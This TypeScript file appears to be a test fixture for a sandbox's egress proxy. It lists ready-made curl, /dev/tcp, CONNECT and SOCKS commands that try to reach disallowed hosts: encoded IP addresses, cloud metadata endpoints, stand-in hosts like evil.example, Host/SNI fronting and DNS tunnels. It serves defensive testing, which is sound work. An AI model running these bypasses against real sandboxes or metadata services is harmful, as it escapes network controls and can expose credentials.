// Ways to reach a host that is not allowed, each with the host as the run must list it.

export interface Try {
  name: string;
  command: string;
  /** As listed; "direct": the kernel counted packets without a route. */
  host: string;
}

export interface TryPorts {
  /** Of a server that is listed. */
  listed: number;
  /** Of one that is not. */
  other: number;
}

/** What the team allows: names that do not exist, names of this machine, and one address with its port. */
export const allowlist = ({ listed }: TryPorts): string[] => [
  "listed.example",
  "*.wild.example",
  "localhost",
  `127.0.0.1:${listed}`,
];

const curl = "curl -sS -m 10 -o /dev/null --noproxy ''";
const direct = "curl -sS -m 10 -o /dev/null --noproxy '*'";

const quoted = (text: string) => `'${text.replaceAll("'", `'\\''`)}'`;

/** Bytes for a port of the sandbox's loopback; prints what comes back. */
const send = (port: number, text: string) =>
  `exec 3<> /dev/tcp/127.0.0.1/${port}; printf ${quoted(text)} >&3; timeout 10 cat <&3 | head -c 300`;
const connect = (target: string, then = "") =>
  send(3128, `CONNECT ${target.replaceAll("%", "%%")} HTTP/1.1\\r\\n\\r\\n${then}`);
/** A second message once the tunnel is open. */
const tunnel = (target: string, bytes: string) =>
  `exec 3<> /dev/tcp/127.0.0.1/3128; printf 'CONNECT ${target} HTTP/1.1\\r\\n\\r\\n' >&3; read -r line <&3; read -r line <&3; printf ${quoted(bytes)} >&3; timeout 10 cat <&3 | head -c 300`;
const socks = (request: string) => send(8081, `\\x05\\x01\\x00${request}`);

const connecting = (name: string, target: string, host: string): Try => ({ name, command: connect(target), host });

const addresses: [name: string, target: string, host: string][] = [
  ["raw IPv4", "1.1.1.1:443", "1.1.1.1"],
  ["raw IPv6", "[2606:4700::1111]:443", "2606:4700::1111"],
  ["IPv4 mapped into IPv6", "[::ffff:1.0.0.1]:443", "1.0.0.1"],
  ["IPv4 mapped into IPv6, in hexadecimal", "[::ffff:808:404]:443", "8.8.4.4"],
  ["loopback mapped into IPv6", "[::ffff:127.0.0.9]:80", "127.0.0.9"],
  ["IPv6 loopback", "[::1]:80", "::1"],
  ["unspecified IPv6 address", "[::]:80", "::"],
  ["NAT64 address", "[64:ff9b::101:101]:443", "64:ff9b::101:101"],
  ["6to4 address", "[2002:7f00:1::1]:80", "2002:7f00:1::1"],
  ["link-local IPv6 address", "[fe80::1]:80", "fe80::1"],
  ["IPv6 address with a zone", "[fe80::2%lo]:80", "[fe80::2%lo]:80"],
  ["decimal address", "2130706433:80", "2130706433:80"],
  ["hexadecimal address", "0x7f000001:80", "0x7f000001:80"],
  ["octal address", "0177.0.0.1:80", "0177.0.0.1:80"],
  ["short address", "127.1:80", "127.1:80"],
  ["hexadecimal part of an address", "127.0.0.0x1:80", "127.0.0.0x1:80"],
  ["unspecified IPv4 address", "0.0.0.0:80", "0.0.0.0"],
  ["another port of a listed address", "127.0.0.1:22", "127.0.0.1"],
  ["private network 10", "10.0.0.1:443", "10.0.0.1"],
  ["private network 172.16", "172.16.0.1:443", "172.16.0.1"],
  ["private network 192.168", "192.168.1.1:443", "192.168.1.1"],
  ["broadcast", "255.255.255.255:80", "255.255.255.255"],
  ["multicast", "224.0.0.1:80", "224.0.0.1"],
];

const metadata: [name: string, target: string, host: string][] = [
  ["metadata address", "169.254.169.254:80", "169.254.169.254"],
  ["metadata address mapped into IPv6", "[::ffff:a9fe:a9fd]:80", "169.254.169.253"],
  ["metadata address of IPv6", "[fd00:ec2::254]:80", "fd00:ec2::254"],
  ["metadata address in carrier space", "100.100.100.200:80", "100.100.100.200"],
  ["metadata address in public space", "168.63.129.16:80", "168.63.129.16"],
  ["metadata by name", "metadata.google.internal:80", "metadata.google.internal"],
  ["metadata address, decimal", "2852039166:80", "2852039166:80"],
];

const names: [name: string, target: string, host: string][] = [
  ["name that is not listed", "evil.example:443", "evil.example"],
  ["subdomain of a listed name", "sub.listed.example:443", "sub.listed.example"],
  ["name that ends like a listed one", "evillisted.example:443", "evillisted.example"],
  ["name that begins like a listed one", "listed.example.evil.test:443", "listed.example.evil.test"],
  ["name above a wildcard", "wild.example:443", "wild.example"],
  ["upper case", "UPPER.EXAMPLE:443", "upper.example"],
  ["final dot", "dot.example.:443", "dot.example"],
  ["user name in front of the host", "listed.example@evil.example:443", "listed.example@evil.example:443"],
  ["NUL in the host", "listed.example%00.evil.example:443", "listed.example%00.evil.example:443"],
  ["listed name that resolves to this machine (rebinding)", "localhost:80", "localhost"],
  ["CONNECT to port 25", "listed.example:25", "listed.example"],
  ["CONNECT to port 22", "a.wild.example:22", "a.wild.example"],
  ["CONNECT to port 53", "b.wild.example:53", "b.wild.example"],
  ["CONNECT to port 0", "listed.example:0", "listed.example:0"],
  ["CONNECT to a port that does not exist", "listed.example:99999", "listed.example:99999"],
  ["CONNECT without a port", "listed.example", "listed.example"],
  ["DNS tunnel in a name", "c2VjcmV0LXBhcnQ.tunnel.example:443", "c2vjcmv0lxbhcnq.tunnel.example"],
  ["DNS over HTTPS", "dns.google:443", "dns.google"],
];

const requests = ({ listed, other }: TryPorts): Try[] => [
  { name: "https without a rule", command: `${curl} https://one.example/`, host: "one.example" },
  { name: "plain http without a rule", command: `${curl} http://two.example/`, host: "two.example" },
  { name: "a server of this machine", command: `${curl} http://127.0.0.1:${other}/`, host: "127.0.0.1" },
  {
    name: "Host header of another host",
    command: `${curl} -H 'Host: fronted.example' http://127.0.0.1:${listed}/`,
    host: "127.0.0.1",
  },
  {
    name: "two Host headers",
    command: send(
      3128,
      `GET http://127.0.0.1:${listed}/ HTTP/1.1\\r\\nHost: 127.0.0.1:${listed}\\r\\nHost: evil.example\\r\\n\\r\\n`,
    ),
    host: "127.0.0.1",
  },
  {
    name: "https URL without CONNECT",
    command: send(3128, "GET https://evil.example/x HTTP/1.1\\r\\nHost: evil.example\\r\\n\\r\\n"),
    host: "https://evil.example/x",
  },
  {
    name: "ftp URL",
    command: send(3128, "GET ftp://evil.example/x HTTP/1.1\\r\\nHost: evil.example\\r\\n\\r\\n"),
    host: "ftp://evil.example/x",
  },
  {
    name: "SNI of another host than CONNECT",
    command: `curl -sS -k -m 10 --noproxy '' --connect-to fronted.example:443:127.0.0.1:${listed} https://fronted.example/`,
    host: "127.0.0.1",
  },
  {
    name: "Host header of another host inside the tunnel",
    command: tunnel(`127.0.0.1:${listed}`, "GET / HTTP/1.1\\r\\nHost: fronted.example\\r\\n\\r\\n"),
    host: "127.0.0.1",
  },
  {
    name: "HTTP/2 inside the tunnel, which could coalesce hosts",
    command: tunnel(`127.0.0.1:${listed}`, "PRI * HTTP/2.0\\r\\n\\r\\nSM\\r\\n\\r\\n"),
    host: "127.0.0.1",
  },
  {
    name: "TLS that is cut into nonsense",
    command: tunnel(`127.0.0.1:${listed}`, "\\x16\\x03\\x01\\x00\\x05\\x02\\x00\\x00\\x01\\x00"),
    host: "127.0.0.1",
  },
  {
    name: "SOCKS to a name",
    command: socks("\\x05\\x01\\x00\\x03\\x0dsocks.example\\x01\\xbb"),
    host: "socks.example",
  },
  {
    name: "SOCKS to an address",
    command: socks("\\x05\\x01\\x00\\x01\\x01\\x02\\x03\\x04\\x01\\xbb"),
    host: "1.2.3.4",
  },
  {
    name: "SOCKS to the metadata address",
    command: socks("\\x05\\x01\\x00\\x01\\xa9\\xfe\\xa9\\xfe\\x00\\x50"),
    host: "169.254.169.254",
  },
];

const withoutProxy: Try[] = [
  {
    name: "proxy variables removed",
    command: "env -u HTTPS_PROXY -u https_proxy -u ALL_PROXY -u all_proxy curl -sS -m 10 https://three.example/",
    host: "direct",
  },
  { name: "raw address without the proxy", command: `${direct} https://1.1.1.1/`, host: "direct" },
  { name: "raw IPv6 address without the proxy", command: `${direct} 'https://[2606:4700::1111]/'`, host: "direct" },
  { name: "metadata address without the proxy", command: `${direct} http://169.254.169.254/`, host: "direct" },
  { name: "QUIC", command: "printf x > /dev/udp/1.1.1.1/443", host: "direct" },
  { name: "DNS to a server outside", command: "printf x > /dev/udp/8.8.8.8/53", host: "direct" },
  { name: "DNS over TCP to a server outside", command: "printf x > /dev/tcp/8.8.8.8/53", host: "direct" },
  { name: "DNS tunnel through the resolver", command: "getent hosts c2VjcmV0.tunnel.example", host: "direct" },
];

export const tries = (ports: TryPorts): Try[] => [
  ...[...addresses, ...metadata, ...names].map((one) => connecting(...one)),
  ...requests(ports),
  ...withoutProxy,
];
